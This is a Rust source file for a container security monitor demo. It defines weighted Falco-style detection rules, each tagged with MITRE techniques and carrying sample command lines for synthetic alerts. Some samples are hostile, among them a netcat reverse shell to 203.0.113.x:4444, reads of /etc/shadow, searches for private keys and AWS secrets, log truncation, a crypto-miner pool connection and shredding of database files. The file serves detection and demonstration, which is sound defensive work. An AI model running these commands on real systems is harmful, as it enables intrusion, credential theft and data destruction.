//! The rules that fire in the demo: three that see everything, and rules of Falco's own set by name,
//! with messages of our own.

use qw_event::Priority;

use super::roles::Command;

/// A rule of the demo.
#[derive(Debug)]
pub(super) struct Rule {
    pub(super) name: &'static str,
    pub(super) priority: Priority,
    pub(super) message: &'static str,
    /// Sorted, as Falco writes them.
    pub(super) tags: &'static [&'static str],
    pub(super) about: About,
}

/// What an event of the rule is about.
#[derive(Debug, Clone, Copy)]
pub(super) enum About {
    /// Whatever the container usually starts.
    UsualProcess,
    /// Whatever the container usually opens.
    UsualFile,
    /// Whomever the container usually talks to.
    UsualConnection,
    /// One of these commands.
    Process(&'static [Command]),
    /// One of these commands opens one of these files.
    File {
        commands: &'static [Command],
        paths: &'static [&'static str],
        call: &'static str,
    },
    /// One of these commands connects to one of these ports.
    Connection {
        commands: &'static [Command],
        ports: &'static [u16],
        call: &'static str,
    },
}

const fn command(name: &'static str, path: &'static str, line: &'static str) -> Command {
    Command {
        name,
        path,
        line,
        parent: "bash",
    }
}

const SHELLS: &[Command] = &[
    Command {
        name: "bash",
        path: "/bin/bash",
        line: "bash",
        parent: "containerd-shim",
    },
    Command {
        name: "sh",
        path: "/bin/sh",
        line: "sh -i",
        parent: "runc",
    },
    Command {
        name: "bash",
        path: "/bin/bash",
        line: "bash -il",
        parent: "runc",
    },
];

const READERS: &[Command] = &[
    command("cat", "/bin/cat", "cat /etc/shadow"),
    command("python3", "/usr/bin/python3", "python3 /tmp/audit-{n}.py"),
    command("less", "/usr/bin/less", "less /etc/sudoers"),
];

const EDITORS: &[Command] = &[
    command("vi", "/usr/bin/vi", "vi /etc/hosts"),
    command("sed", "/bin/sed", "sed -i s/{n}/{n}/ /etc/hosts"),
    command("tee", "/usr/bin/tee", "tee -a /etc/hosts"),
];

const FETCHERS: &[Command] = &[
    command(
        "curl",
        "/usr/bin/curl",
        "curl -fsSLo /tmp/setup-{h} https://downloads.example.net/{h}",
    ),
    command(
        "wget",
        "/usr/bin/wget",
        "wget -q https://downloads.example.net/{h}",
    ),
];

/// Rules, most frequent first: the three that see everything, then the others by rank.
pub(super) const RULES: [Rule; 24] = [
    Rule {
        name: "File activity",
        priority: Priority::Debug,
        message: "File opened",
        tags: &["container", "file", "observe"],
        about: About::UsualFile,
    },
    Rule {
        name: "Network activity",
        priority: Priority::Debug,
        message: "Network connection",
        tags: &["container", "network", "observe"],
        about: About::UsualConnection,
    },
    Rule {
        name: "Process activity",
        priority: Priority::Debug,
        message: "Process started",
        tags: &["container", "observe", "process"],
        about: About::UsualProcess,
    },
    Rule {
        name: "Contact K8S API Server From Container",
        priority: Priority::Notice,
        message: "A container reached out to the Kubernetes API",
        tags: &[
            "T1565",
            "container",
            "k8s",
            "maturity_stable",
            "mitre_discovery",
            "network",
        ],
        about: About::Connection {
            commands: &[
                command(
                    "curl",
                    "/usr/bin/curl",
                    "curl -sk https://10.96.0.1/api/v1/pods",
                ),
                command(
                    "kubectl",
                    "/usr/local/bin/kubectl",
                    "kubectl get pods --watch",
                ),
            ],
            ports: &[443, 6443],
            call: "connect",
        },
    },
    Rule {
        name: "Terminal shell in container",
        priority: Priority::Notice,
        message: "Shell with a terminal started in a container",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "shell",
        ],
        about: About::Process(SHELLS),
    },
    Rule {
        name: "System user interactive",
        priority: Priority::Informational,
        message: "System user works interactively",
        tags: &[
            "T1059",
            "container",
            "host",
            "maturity_stable",
            "mitre_execution",
            "users",
        ],
        about: About::Process(&[
            command("id", "/usr/bin/id", "id"),
            command("whoami", "/usr/bin/whoami", "whoami"),
            command("ps", "/bin/ps", "ps auxf"),
        ]),
    },
    Rule {
        name: "Read sensitive file untrusted",
        priority: Priority::Warning,
        message: "Sensitive file opened by a program that has no business with it",
        tags: &[
            "T1555",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_credential_access",
        ],
        about: About::File {
            commands: READERS,
            paths: &[
                "/etc/shadow",
                "/etc/sudoers",
                "/etc/pam.d/common-auth",
                "/etc/sudoers.d/ci",
            ],
            call: "openat",
        },
    },
    Rule {
        name: "Launch Package Management Process in Container",
        priority: Priority::Error,
        message: "Package manager started in a container",
        tags: &[
            "T1505",
            "container",
            "maturity_incubating",
            "mitre_persistence",
            "process",
        ],
        about: About::Process(&[
            command("apt-get", "/usr/bin/apt-get", "apt-get update -qq"),
            command("apk", "/sbin/apk", "apk add --no-cache strace"),
            command("pip", "/usr/bin/pip", "pip install requests=={n}"),
        ]),
    },
    Rule {
        name: "Run shell untrusted",
        priority: Priority::Notice,
        message: "Shell started by a program that starts none",
        tags: &[
            "T1059.004",
            "container",
            "host",
            "maturity_stable",
            "mitre_execution",
            "shell",
        ],
        about: About::Process(&[
            Command {
                name: "sh",
                path: "/bin/sh",
                line: "sh -c \"date +%s\"",
                parent: "nginx",
            },
            Command {
                name: "bash",
                path: "/bin/bash",
                line: "bash -c \"env | sort\"",
                parent: "java",
            },
            Command {
                name: "sh",
                path: "/bin/sh",
                line: "sh -c 'ls \\tmp'",
                parent: "node",
            },
        ]),
    },
    Rule {
        name: "Launch Suspicious Network Tool in Container",
        priority: Priority::Notice,
        message: "Network tool started in a container",
        tags: &[
            "T1595",
            "container",
            "maturity_incubating",
            "mitre_reconnaissance",
            "network",
            "process",
        ],
        about: About::Process(&[
            command(
                "tcpdump",
                "/usr/bin/tcpdump",
                "tcpdump -i eth0 -c 50 port 5432",
            ),
            command("nmap", "/usr/bin/nmap", "nmap -sT -p 1-1024 10.20.3.0/24"),
            command("dig", "/usr/bin/dig", "dig +short shop.example.com"),
        ]),
    },
    Rule {
        name: "Unexpected outbound connection destination",
        priority: Priority::Notice,
        message: "Connection to a destination that is not on the list",
        tags: &[
            "TA0011",
            "container",
            "maturity_incubating",
            "mitre_command_and_control",
            "network",
        ],
        about: About::Connection {
            commands: FETCHERS,
            ports: &[443, 80, 8443],
            call: "connect",
        },
    },
    Rule {
        name: "Search Private Keys or Passwords",
        priority: Priority::Warning,
        message: "Search for private keys or passwords",
        tags: &[
            "T1552.001",
            "container",
            "filesystem",
            "maturity_stable",
            "mitre_credential_access",
        ],
        about: About::Process(&[
            command("grep", "/bin/grep", "grep -ri \"BEGIN RSA PRIVATE\" /app"),
            command(
                "find",
                "/usr/bin/find",
                "find / -name id_rsa -o -name '*.pem'",
            ),
        ]),
    },
    Rule {
        name: "Write below etc",
        priority: Priority::Error,
        message: "File below /etc opened for writing",
        tags: &[
            "T1098",
            "container",
            "filesystem",
            "maturity_sandbox",
            "mitre_persistence",
        ],
        about: About::File {
            commands: EDITORS,
            paths: &[
                "/etc/hosts",
                "/etc/cron.d/sync",
                "/etc/ld.so.preload",
                "/etc/passwd",
            ],
            call: "openat",
        },
    },
    Rule {
        name: "Clear Log Activities",
        priority: Priority::Warning,
        message: "Log file emptied",
        tags: &[
            "T1070",
            "container",
            "filesystem",
            "maturity_stable",
            "mitre_defense_evasion",
        ],
        about: About::File {
            commands: &[command(
                "truncate",
                "/usr/bin/truncate",
                "truncate -s 0 /var/log/auth.log",
            )],
            paths: &[
                "/var/log/auth.log",
                "/var/log/syslog",
                "/var/log/nginx/access.log",
            ],
            call: "openat",
        },
    },
    Rule {
        name: "Packet socket created in container",
        priority: Priority::Notice,
        message: "Raw packet socket created in a container",
        tags: &[
            "T1557.002",
            "container",
            "maturity_stable",
            "mitre_credential_access",
            "network",
        ],
        about: About::Process(&[command(
            "tcpdump",
            "/usr/bin/tcpdump",
            "tcpdump -i any -w /tmp/{h}.pcap",
        )]),
    },
    Rule {
        name: "Modify Shell Configuration File",
        priority: Priority::Warning,
        message: "Start-up file of a shell changed",
        tags: &[
            "T1546.004",
            "container",
            "filesystem",
            "maturity_incubating",
            "mitre_persistence",
        ],
        about: About::File {
            commands: EDITORS,
            paths: &["/root/.bashrc", "/home/app/.profile", "/etc/profile"],
            call: "openat",
        },
    },
    Rule {
        name: "Disallowed SSH Connection Non Standard Port",
        priority: Priority::Notice,
        message: "SSH connection to an unusual port",
        tags: &[
            "T1059",
            "container",
            "host",
            "maturity_stable",
            "mitre_execution",
            "network",
        ],
        about: About::Connection {
            commands: &[command(
                "ssh",
                "/usr/bin/ssh",
                "ssh -p 2222 deploy@203.0.113.{n}",
            )],
            ports: &[2222, 443],
            call: "connect",
        },
    },
    Rule {
        name: "Execution from /dev/shm",
        priority: Priority::Warning,
        message: "Program started from shared memory",
        tags: &[
            "T1059.004",
            "container",
            "host",
            "maturity_stable",
            "mitre_execution",
        ],
        about: About::Process(&[command("x", "/dev/shm/x", "/dev/shm/x --quiet")]),
    },
    Rule {
        name: "Find AWS Credentials",
        priority: Priority::Warning,
        message: "Search for cloud credentials",
        tags: &[
            "T1552",
            "aws",
            "container",
            "maturity_stable",
            "mitre_credential_access",
            "process",
        ],
        about: About::Process(&[command(
            "grep",
            "/bin/grep",
            "grep -r aws_secret_access_key /root /home",
        )]),
    },
    Rule {
        name: "Redirect STDOUT/STDIN to Network Connection in Container",
        priority: Priority::Notice,
        message: "Input and output of a program tied to a network connection",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "network",
            "process",
        ],
        about: About::Connection {
            commands: &[command("bash", "/bin/bash", "bash -i")],
            ports: &[4444, 9001],
            call: "dup2",
        },
    },
    Rule {
        name: "Netcat Remote Code Execution in Container",
        priority: Priority::Warning,
        message: "Netcat started so that it runs what it receives",
        tags: &[
            "T1059",
            "container",
            "maturity_stable",
            "mitre_execution",
            "network",
            "process",
        ],
        about: About::Process(&[command(
            "nc",
            "/usr/bin/nc",
            "nc -e /bin/sh 203.0.113.{n} 4444",
        )]),
    },
    Rule {
        name: "Drop and execute new binary in container",
        priority: Priority::Critical,
        message: "Program that is not part of the image was started",
        tags: &[
            "TA0003",
            "container",
            "maturity_stable",
            "mitre_persistence",
            "process",
        ],
        about: About::Process(&[command(
            "update",
            "/tmp/.cache/update",
            "/tmp/.cache/update --daemon",
        )]),
    },
    Rule {
        name: "Detect outbound connections to common miner pool ports",
        priority: Priority::Critical,
        message: "Connection to a port that mining pools use",
        tags: &[
            "T1496",
            "container",
            "maturity_sandbox",
            "mitre_impact",
            "network",
        ],
        about: About::Connection {
            commands: &[command(
                "kworkerds",
                "/tmp/.X11/kworkerds",
                "kworkerds -o pool.example.net:3333",
            )],
            ports: &[3333, 14444, 45700],
            call: "connect",
        },
    },
    Rule {
        name: "Remove Bulk Data from Disk",
        priority: Priority::Warning,
        message: "Bulk removal of data",
        tags: &[
            "T1485",
            "container",
            "filesystem",
            "maturity_stable",
            "mitre_impact",
            "process",
        ],
        about: About::Process(&[command(
            "shred",
            "/usr/bin/shred",
            "shred -u /var/lib/app/{h}.db",
        )]),
    },
];

/// Share of events, of ten thousand, that the first three rules have.
const EVERYTHING: [u64; 3] = [2_800, 2_000, 1_200];

/// The rule that `number` chooses: the weights of the others fall off as one over their rank.
pub(super) fn choose(number: u64) -> &'static Rule {
    let mut rest = number % 10_000;
    for (rule, share) in RULES.iter().zip(EVERYTHING) {
        if rest < share {
            return rule;
        }
        rest -= share;
    }
    // What is left is even over the rest of the ten thousand.
    let others = RULES.len() - EVERYTHING.len();
    let width = 10_000 - EVERYTHING.iter().sum::<u64>();
    let place = (rest as f64 + (number / 10_000 % 1_000) as f64 / 1_000.0) / width as f64;
    // The inverse of the distribution with density 1/x between 1 and others + 1.
    let rank = ((others + 1) as f64).powf(place) as usize - 1;
    &RULES[EVERYTHING.len() + rank.min(others - 1)]
}

/// The rule named `name`.
pub(super) fn named(name: &str) -> Option<&'static Rule> {
    RULES.iter().chain(&OTHERS).find(|rule| rule.name == name)
}

/// Rules that only the story of the fleet sets off: first those that see everything, named as the
/// ones that are shipped for Falco.
static OTHERS: [Rule; 4] = [
    Rule {
        name: PROCESSES,
        priority: Priority::Debug,
        message: "Program started",
        tags: &["process", "quaywatch"],
        about: About::UsualProcess,
    },
    Rule {
        name: CONNECTIONS,
        priority: Priority::Debug,
        message: "Connection made or taken",
        tags: &["network", "quaywatch"],
        about: About::UsualConnection,
    },
    Rule {
        name: FILES,
        priority: Priority::Debug,
        message: "File opened, renamed or removed",
        tags: &["file", "quaywatch"],
        about: About::UsualFile,
    },
    Rule {
        name: "DB program spawned process",
        priority: Priority::Notice,
        message: "Database started another program",
        tags: &[
            "T1190",
            "container",
            "database",
            "host",
            "maturity_incubating",
            "mitre_execution",
            "process",
        ],
        about: About::UsualProcess,
    },
];

/// Sees every program that starts.
pub(super) const PROCESSES: &str = "Quaywatch process activity";
/// Sees every connection.
pub(super) const CONNECTIONS: &str = "Quaywatch network activity";
/// Sees every file that is opened, renamed or removed.
pub(super) const FILES: &str = "Quaywatch file activity";
